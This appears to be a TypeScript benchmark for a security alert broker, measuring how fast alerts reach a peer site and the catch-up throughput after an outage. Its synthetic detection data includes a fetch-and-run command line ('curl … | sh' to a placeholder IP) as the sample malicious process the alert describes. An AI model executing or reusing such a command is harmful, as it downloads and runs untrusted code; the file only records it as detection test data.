// From an alert at one site to the same alert at a peer: two real brokers, mutual TLS over loopback.
// Latency: the clock starts before the detector's commit is published and stops when the peer's live stream has the alert, which it says after
// its own fsync; so it holds two durable stores, a signature and its check. Catch-up: items a peer takes in after it was away, until the last is on its disk.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { asDetector } from "../broker/mesh/testing/sites.ts";
import { initSite } from "../broker/site.ts";
import { initOperator } from "../cli/operator/keys.ts";
import type { Detection } from "../protocol/alert.ts";
import type { MeshStatus } from "../protocol/mesh.ts";
import { STREAM_PATH } from "../protocol/rest.ts";
import { alertId } from "../protocol/uuid5.ts";
import { undoneAtEnd } from "./leftovers.ts";
import { type Program, start } from "./program.ts";
import { percentile, type Result } from "./result.ts";

const SAMPLES = 300;
const WARM_UP = 30;
/** Below the items a site keeps for a peer that is away. */
const CATCH_UP = 5000;
const COMMIT = 500;
const PICKET = [process.execPath, new URL("../cli/main.ts", import.meta.url).pathname];

export default async function* mesh(): AsyncIterable<Result> {
  const folder = mkdtempSync(join(tmpdir(), "pkbench-mesh-"));
  const remove = () => rmSync(folder, { recursive: true, force: true, maxRetries: 20, retryDelay: 100 });
  const removed = undoneAtEnd(remove);
  try {
    await using north = await startSite(folder, "north");
    const south = await startSite(folder, "south");
    const { token } = await north.ask<{ token: string }>("POST", "/v1/mesh/invites", {});
    await south.ask("POST", "/v1/mesh/join", { token });
    await connected(north);
    await using detector = await asDetector({ dir: north.dir, site: north.name, port: north.mqtt, ca: north.ca });
    const stream = await follow(south);
    const ms: number[] = [];
    for (let run = 0; run < WARM_UP + SAMPLES; run++) {
      const detection = makeDetection(run);
      const began = performance.now();
      const seen = stream.seen(detection.id);
      await detector.commit([detection]);
      await seen;
      if (run >= WARM_UP) ms.push(performance.now() - began);
      await Bun.sleep(Math.random() * 20);
    }
    for (const share of [50, 99] as const)
      yield { metric: `alert_at_peer_p${share}_ms`, value: round1(percentile(ms, share / 100)), unit: "ms" };
    yield { metric: "alert_at_peer_max_ms", value: round1(Math.max(...ms)), unit: "ms" };
    yield { metric: "samples", value: ms.length, unit: "samples" };
    stream.end();
    await south[Symbol.asyncDispose]();
    for (let at = 0; at < CATCH_UP; at += COMMIT)
      await detector.commit(Array.from({ length: COMMIT }, (_, n) => makeDetection(10_000 + at + n)));
    await using _back = await startSite(folder, "south");
    await connected(north);
    // Signing was done while it was away; what is timed is the way over and the work at the peer.
    const began = performance.now();
    const first = (await peerOf(north)).lag;
    for (let left = first; left > 0; left = (await peerOf(north)).lag) await Bun.sleep(20);
    const taken = (performance.now() - began) / 1000;
    yield { metric: "catch_up_items", value: first, unit: "items" };
    yield { metric: "catch_up_rate", value: Math.round(first / taken), unit: "items/s" };
  } finally {
    remove();
    removed();
  }
}

type Site = AsyncDisposable & {
  readonly name: string;
  readonly dir: string;
  readonly ca: string;
  readonly token: string;
  readonly mqtt: number;
  readonly https: number;
  ask<T>(method: string, path: string, body?: object): Promise<T>;
};

/** Makes the site at first; starts its broker on the ports it had before. */
async function startSite(folder: string, name: string): Promise<Site> {
  const dir = join(folder, name);
  const facts = join(folder, `${name}.json`);
  if (!(await Bun.file(facts).exists())) {
    const operator = await initOperator({ home: join(folder, `${name}-operator`), site: name, name: "bench" });
    const made = await initSite({ dir, site: name, hosts: ["127.0.0.1"], operator: operator.public });
    writeFileSync(facts, JSON.stringify({ ...made, mqtt: 0, https: 0 }));
  }
  const known = JSON.parse(readFileSync(facts, "utf8")) as { ca: string; token: string; mqtt: number; https: number };
  const config = join(folder, `${name}.toml`);
  writeFileSync(
    config,
    `[broker]\ndir = ${JSON.stringify(dir)}\nhost = "127.0.0.1"\nmqttPort = ${known.mqtt}\nhttpsPort = ${known.https}\n`,
  );
  const program: Program = start([...PICKET, "broker", "--config", config]);
  const ports = JSON.parse(await program.line(/"broker listens"/)) as { mqtt: number; https: number };
  writeFileSync(facts, JSON.stringify({ ...known, mqtt: ports.mqtt, https: ports.https }));
  return {
    ...{ name, dir, ca: known.ca, token: known.token, mqtt: ports.mqtt, https: ports.https },
    ask: async <T>(method: string, path: string, body?: object) => {
      const response = await fetch(`https://127.0.0.1:${ports.https}${path}`, {
        method,
        headers: { authorization: `Bearer ${known.token}`, ...(body ? { "content-type": "application/json" } : {}) },
        ...(body ? { body: JSON.stringify(body) } : {}),
        tls: { ca: known.ca },
      });
      if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${await response.text()}`);
      return (await response.json()) as T;
    },
    [Symbol.asyncDispose]: () => program[Symbol.asyncDispose](),
  };
}

const peerOf = async (site: Site) => (await site.ask<MeshStatus>("GET", "/v1/mesh")).peers[0]!;

async function connected(site: Site): Promise<void> {
  while ((await peerOf(site)).state !== "connected") await Bun.sleep(5);
}

/** The live stream of a site, as a console has it. */
async function follow(site: Site) {
  const stop = new AbortController();
  const response = await fetch(`https://127.0.0.1:${site.https}${STREAM_PATH}`, {
    headers: { authorization: `Bearer ${site.token}` },
    tls: { ca: site.ca },
    signal: stop.signal,
  });
  const waiting = new Map<string, () => void>();
  const reading = (async () => {
    for await (const text of response.body!.pipeThrough(new TextDecoderStream()))
      for (const [, id = ""] of text.matchAll(/"kind":"alert","alert":\{"id":"([0-9a-f-]{36})"/g)) waiting.get(id)?.();
  })().catch(() => {});
  return {
    seen: (id: string) => new Promise<void>((resolve) => waiting.set(id, resolve)),
    end: () => {
      stop.abort();
      return reading;
    },
  };
}

/** About the size of a real one: 2 KB with its tree. */
function makeDetection(run: number): Detection {
  const rule = `bench-${run}`;
  const node = {
    pid: 4711,
    exe: "/usr/bin/bash",
    argv: ["bash", "-c", `curl -s http://203.0.113.9/${run} | sh`],
    matched: ["Shell started by a web server"],
  };
  return {
    id: alertId({ site: "north", rule, device: "gw-014", group: "", anchor: String(run) }),
    site: "north",
    device: "gw-014",
    timeMs: Date.now(),
    rule: { id: rule, title: "A shell that should not be", engine: "sigma" },
    severity: "high",
    score: 60,
    attack: { tactics: ["execution"], techniques: ["T1059.004"] },
    events: [`gw-014:k3m9x0qa:${run}`],
    tree: Array.from({ length: 8 }, (_, depth) => ({ depth, ...node })),
    summary: "nginx started bash, which fetched a program and ran it.",
    count: 1,
    firstMs: Date.now(),
    lastMs: Date.now(),
    revision: 0,
  };
}

const round1 = (ms: number) => Number(ms.toFixed(1));
